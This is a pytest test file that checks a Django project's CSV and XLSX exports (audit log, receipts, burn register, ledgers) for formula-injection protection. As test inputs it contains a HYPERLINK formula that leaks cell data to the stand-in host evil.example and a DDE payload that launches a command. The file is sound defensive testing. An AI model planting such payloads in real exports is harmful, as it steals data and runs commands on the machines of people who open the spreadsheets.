"""CSV formula injection (issue 16 item 13, OWASP "CSV Injection"): text typed by people or
taken from a device's card reaches the audit export, the completeness CSV, the station's
receipt, the disc burn register, the spot-check ledger and the circular's spreadsheet; a cell
that starts like a formula is written with a leading single quote."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from liuhen.cases.choices import PartyKind
from liuhen.cases.tests.factories import make_case, make_party
from liuhen.core.exports import safe_cell, safe_row
from liuhen.evidence.station import Item, Receipt

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+86 311 1234", "'+86 311 1234"), ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1+2", "'＝1+2"),
    ("监察一大队", "监察一大队"), ("a=1", "a=1"), ("", ""), (-5, -5), (1.5, 1.5), (None, None),
])
def test_safe_cell_known_answers(value, written):
    assert safe_cell(value) == written


def test_safe_row_keeps_order_and_plain_cells():
    assert safe_row(["seq", "=x", 3]) == ["seq", "'=x", 3]


@pytest.mark.django_db
def test_audit_export_neutralises_a_formula_in_an_object_name(people, bureau):
    """An organisation registered as a party under a formula name: its audit entry's
    object_repr reaches the legal office's CSV export as text."""
    make_party(actor=people["officer_a"].user, unit=bureau["team_a"],
               kind=PartyKind.ORGANISATION, name=ATTACK)
    client = Client()
    client.force_login(people["legal"].user)
    response = client.get(reverse("audit_export"), {"action": "party."})
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    header, row = rows[0], rows[1]
    assert row[header.index("对象")] == "'" + ATTACK
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


@pytest.mark.django_db
def test_completeness_csv_neutralises_a_formula_in_a_unit_name(people, bureau):
    unit = bureau["team_a"]
    unit.name = "-2+3 大队"
    unit.save(update_fields=["name"])
    make_case(actor=people["officer_a"].user, unit=unit,
              officers=[people["officer_a"], people["officer_a2"]])
    out = io.StringIO()
    call_command("completeness", "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][1] == "'-2+3 大队"


def test_station_receipt_neutralises_a_formula_in_a_file_name(tmp_path):
    receipt = Receipt(device="DSJ-01", officer="执法员", server="", folder=str(tmp_path))
    receipt.items.append(Item(file="=cmd|' /C calc'!A0.mp4", size=3))
    csv_path, _ = receipt.write(tmp_path / "out")
    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert "'=cmd|' /C calc'!A0.mp4" in row.values()


# The spreadsheet exports beside the CSVs (issue 16 item 13: "every CSV/XLSX export"). openpyxl
# stores a text that starts with "=" as a formula, which Excel and WPS run on opening.

def _xlsx_rows(content: bytes, sheet: str | None = None) -> list[tuple]:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(content))
    return list((book[sheet] if sheet else book.active).iter_rows(values_only=True))


def test_circular_xlsx_neutralises_a_formula_in_a_unit_name():
    from types import SimpleNamespace

    from liuhen.supervision.circulars import to_xlsx

    inputs = dict.fromkeys(("cases", "recordings", "late", "reviewed", "findings",
                            "violations", "rectifications", "overdue"), 0)
    circular = SimpleNamespace(
        formula={"component": [{"title": "记录完整", "article": "第五条", "weight": 1.0}]},
        rows=[{"rank": 1, "unit": ATTACK, "total": 95.5, "components": [{"score": 95.5}],
               "inputs": {**inputs, "completeness": 0.5, "review_score": None}}])
    rows = _xlsx_rows(to_xlsx(circular), "排名")
    assert rows[1][:3] == (1, "'" + ATTACK, 95.5)


def test_ledger_xlsx_neutralises_a_formula_in_a_finding():
    from liuhen.supervision.ledger import COLUMNS, to_xlsx

    row = ["抽查"] + [""] * (len(COLUMNS) - 2) + ["-1+1 整改"]
    rows = _xlsx_rows(to_xlsx([row]))
    assert rows[1][0] == "抽查" and rows[1][-1] == "'-1+1 整改"


def test_burn_register_csv_neutralises_a_formula_in_a_location():
    from datetime import date
    from types import SimpleNamespace

    from liuhen.keeping.burns import export_csv

    burn = SimpleNamespace(
        archive_number="A-1", package=SimpleNamespace(external_id="pkg-1"), volume=1, volumes=1,
        medium="bd", volume_label="@SUM(A1)", disc_label="光盘1", burned_on=date(2026, 12, 1),
        operator="刻录员", checker="", location=ATTACK, size=10, sha256="a" * 64, sm3="b" * 64,
        checked_at=None, check_ok=None)
    rows = list(csv.reader(io.StringIO(export_csv([burn]).decode("utf-8-sig"))))
    assert rows[1][4] == "'@SUM(A1)" and rows[1][9] == "'" + ATTACK
